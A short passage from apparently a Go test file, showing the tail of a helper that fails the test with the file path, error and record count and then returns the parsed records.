		t.Fatalf("%s: %v, %d records", path, err, len(recs))
	}
	return recs
}
